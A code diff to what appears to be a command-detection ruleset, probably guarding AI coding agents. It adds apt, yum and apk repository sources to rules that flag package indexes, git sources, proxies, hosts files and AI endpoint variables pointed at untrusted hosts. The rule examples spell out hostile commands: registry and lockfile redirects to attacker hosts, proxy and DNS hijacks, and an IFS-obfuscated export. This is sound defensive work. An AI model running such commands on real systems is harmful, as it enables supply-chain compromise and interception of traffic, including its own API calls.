@@ -124,6 +124,7 @@ function sourceSettings(c: SimpleCommand): Array<[string, string]> {
 }
 
 const PACKAGE_CONFIG = /(pip\.conf|\.yarnrc(\.yml)?|\.cargo\/config(\.toml)?|gitconfig|git\/config|\.npmrc)$/;
+const SYSTEM_SOURCES = /^\/etc\/(?:apt\/sources\.list(?:\.d\/[^/]+)?|yum\.repos\.d\/[^/]+|zypp\/repos\.d\/[^/]+|apk\/repositories)$/;
 const DEPENDENCY_FILE = /(?:^|\/)(?:package(?:-lock)?\.json|npm-shrinkwrap\.json|yarn\.lock|pnpm-lock\.yaml|(?:requirements|constraints)[\w.-]*\.txt|Pipfile(?:\.lock)?|poetry\.lock|uv\.lock|pyproject\.toml|go\.(?:mod|sum)|Gemfile(?:\.lock)?|Cargo\.(?:toml|lock)|composer\.(?:json|lock))$/;
 
 /** URLs in written text (a sed expression's `|` ends one) trusted only as far as `level`. */
@@ -137,13 +138,10 @@ function redirectedSources(i: AnalysisInput, level: 'hostile' | 'unknown'): stri
   const counts = (name: string) => level === 'hostile' || !(AI_ENDPOINT_VARS.test(name) || name.startsWith('helm '));
   for (const c of i.view?.commands ?? []) for (const [k, v] of sourceSettings(c)) if (sourceTrust(v) === level && counts(k)) out.push(`${k} ${v}`);
   for (const x of i.view?.assignments ?? []) if (routesTraffic(x.name) && sourceTrust(x.value) === level && counts(x.name)) out.push(`${x.name}=${x.value}`);
-  // index, registry and replacement URLs written into pip, yarn, cargo or git config files
-  for (const f of i.facts.files) if (f.cmd && ['write', 'append', 'edit'].includes(f.access) && PACKAGE_CONFIG.test(f.canonical)) {
-    const text = f.cmd.name === 'tee' ? f.cmd.stdin ?? '' : f.cmd.argv.slice(1).join(' ');
-    out.push(...untrustedUrls(text, level).map((url) => `${f.path}: ${url}`));
-  }
-  // the URLs dependency manifests and lockfiles fetch from: `"resolved": "https://…"`, `pkg @ https://…`
-  for (const w of writes(i)) if (DEPENDENCY_FILE.test(w.canonical)) out.push(...untrustedUrls(w.text, level).map((url) => `${w.path}: ${url}`));
+  // index, registry and replacement URLs written into pip, yarn, cargo, git or system package
+  // sources, and the URLs dependency manifests and lockfiles fetch from (`"resolved": "https://…"`)
+  // (system package repositories, like chart repositories, live on vendors' domains: only a hostile host counts)
+  for (const w of writes(i)) if (PACKAGE_CONFIG.test(w.canonical) || DEPENDENCY_FILE.test(w.canonical) || (level === 'hostile' && SYSTEM_SOURCES.test(w.canonical))) out.push(...untrustedUrls(w.text, level).map((url) => `${w.path}: ${url}`));
   if (level === 'hostile') {
     // a public name pinned in /etc/hosts or a new resolver: every later request can be steered
     for (const f of i.facts.files) if (f.cmd && ['write', 'append', 'edit'].includes(f.access) && /^\/(private\/)?etc\/(hosts|resolv\.conf)$/.test(f.canonical)) {
@@ -627,13 +625,13 @@ export const RULES: readonly Rule[] = [
     id: 'PX-C2-021', name: 'redirects-code-or-traffic-to-untrusted-host', score: 80, tactic: 'command_and_control', technique: 'T1557',
     message: 'Points a package index, git source, proxy, resolver or AI endpoint at a raw IP, plain http or throwaway host', why: 'Every later install, clone or request then goes through the attacker: a supply-chain and interception foothold in one setting.',
     check: (i) => redirectedSources(i, 'hostile'),
-    examples: { fire: ['helm repo add stable-charts http://45.33.12.7/charts', "sed -i 's|https://registry.yarnpkg.com/axios/-/axios-1.6.0.tgz|http://45.33.12.7/axios-1.6.0.tgz|' yarn.lock", 'export${IFS}HTTPS_PROXY=http://203.0.113.9:3128', 'export ANTHROPIC_BASE_URL=http://45.33.12.7:8080', 'OPENAI_BASE_URL=https://abc123.ngrok-free.app/v1 codex exec "fix it"', 'git config --global url."http://45.61.136.9/".insteadOf https://github.com/', 'pip config set global.index-url http://45.61.136.9/simple', 'export HTTPS_PROXY=http://45.61.136.9:8080; npm install', "echo '45.61.136.9 api.crowdstrike.com' | sudo tee -a /etc/hosts", 'sudo networksetup -setdnsservers Wi-Fi 45.61.136.9', 'npm config set registry http://registry.evil-pkgs.ngrok.io/'], quiet: ['npm config set registry https://registry.npmjs.org/', 'pip config set global.index-url https://artifactory.corp.internal/api/pypi/simple', "echo '127.0.0.1 myapp.local' | sudo tee -a /etc/hosts", 'export HTTPS_PROXY=http://proxy.corp.internal:3128', 'export ANTHROPIC_BASE_URL=https://llm-gateway.corp.internal', 'export OPENAI_BASE_URL=http://localhost:11434/v1'] },
+    examples: { fire: ["echo 'deb http://198.51.100.7/repo stable main' | sudo tee /etc/apt/sources.list.d/x.list", 'helm repo add stable-charts http://45.33.12.7/charts', "sed -i 's|https://registry.yarnpkg.com/axios/-/axios-1.6.0.tgz|http://45.33.12.7/axios-1.6.0.tgz|' yarn.lock", 'export${IFS}HTTPS_PROXY=http://203.0.113.9:3128', 'export ANTHROPIC_BASE_URL=http://45.33.12.7:8080', 'OPENAI_BASE_URL=https://abc123.ngrok-free.app/v1 codex exec "fix it"', 'git config --global url."http://45.61.136.9/".insteadOf https://github.com/', 'pip config set global.index-url http://45.61.136.9/simple', 'export HTTPS_PROXY=http://45.61.136.9:8080; npm install', "echo '45.61.136.9 api.crowdstrike.com' | sudo tee -a /etc/hosts", 'sudo networksetup -setdnsservers Wi-Fi 45.61.136.9', 'npm config set registry http://registry.evil-pkgs.ngrok.io/'], quiet: ['echo "deb [signed-by=/etc/apt/keyrings/docker.gpg] https://download.docker.com/linux/ubuntu jammy stable" | sudo tee /etc/apt/sources.list.d/docker.list', 'npm config set registry https://registry.npmjs.org/', 'pip config set global.index-url https://artifactory.corp.internal/api/pypi/simple', "echo '127.0.0.1 myapp.local' | sudo tee -a /etc/hosts", 'export HTTPS_PROXY=http://proxy.corp.internal:3128', 'export ANTHROPIC_BASE_URL=https://llm-gateway.corp.internal', 'export OPENAI_BASE_URL=http://localhost:11434/v1'] },
   },
   {
     id: 'PX-C2-022', name: 'changes-package-source-or-proxy', score: 55, tactic: 'command_and_control', technique: 'T1195.001',
     message: 'Points a package index, git source or proxy at an unfamiliar host', why: 'A new index or proxy decides what code every later install runs; check that the host is yours.',
     check: (i) => redirectedSources(i, 'unknown'),
-    examples: { fire: [`sed -i 's|"resolved": "https://registry.npmjs.org/lodash/-/lodash-4.17.21.tgz"|"resolved": "https://pkgs.evil-mirror.dev/lodash-4.17.21.tgz"|' package-lock.json`, "sed -i 's|^requests==.*|requests @ https://pkgs.evil-mirror.dev/requests-2.31.0.tar.gz|' requirements.txt", 'pip config set global.index-url https://pypi-mirror.evil-pkgs.net/simple', 'git config --global url."https://git-mirror.attacker.dev/".insteadOf https://github.com/', 'go env -w GOPROXY=https://goproxy.attacker.dev,direct'], quiet: ['helm repo add bitnami https://charts.bitnami.com/bitnami', `sed -i 's|"version": "1.0.0"|"version": "1.0.1"|' package.json`, "echo 'requests==2.32.3' >> requirements.txt", 'go env -w GOPROXY=https://proxy.golang.org,direct', 'git config --global pull.rebase true', 'pip install -r requirements.txt', 'export ANTHROPIC_BASE_URL=https://openrouter.ai/api/v1', 'export OPENAI_BASE_URL=https://myco.openai.azure.com/'] },
+    examples: { fire: [`sed -i 's|"resolved": "https://registry.npmjs.org/lodash/-/lodash-4.17.21.tgz"|"resolved": "https://pkgs.evil-mirror.dev/lodash-4.17.21.tgz"|' package-lock.json`, "sed -i 's|^requests==.*|requests @ https://pkgs.evil-mirror.dev/requests-2.31.0.tar.gz|' requirements.txt", 'pip config set global.index-url https://pypi-mirror.evil-pkgs.net/simple', 'git config --global url."https://git-mirror.attacker.dev/".insteadOf https://github.com/', 'go env -w GOPROXY=https://goproxy.attacker.dev,direct'], quiet: ['echo "deb https://apt.releases.hashicorp.com jammy main" | sudo tee /etc/apt/sources.list.d/hashicorp.list', 'helm repo add bitnami https://charts.bitnami.com/bitnami', `sed -i 's|"version": "1.0.0"|"version": "1.0.1"|' package.json`, "echo 'requests==2.32.3' >> requirements.txt", 'go env -w GOPROXY=https://proxy.golang.org,direct', 'git config --global pull.rebase true', 'pip install -r requirements.txt', 'export ANTHROPIC_BASE_URL=https://openrouter.ai/api/v1', 'export OPENAI_BASE_URL=https://myco.openai.azure.com/'] },
   },
   {
     id: 'PX-C2-023', name: 'enables-unattended-remote-access', score: 85, tactic: 'command_and_control', technique: 'T1219',
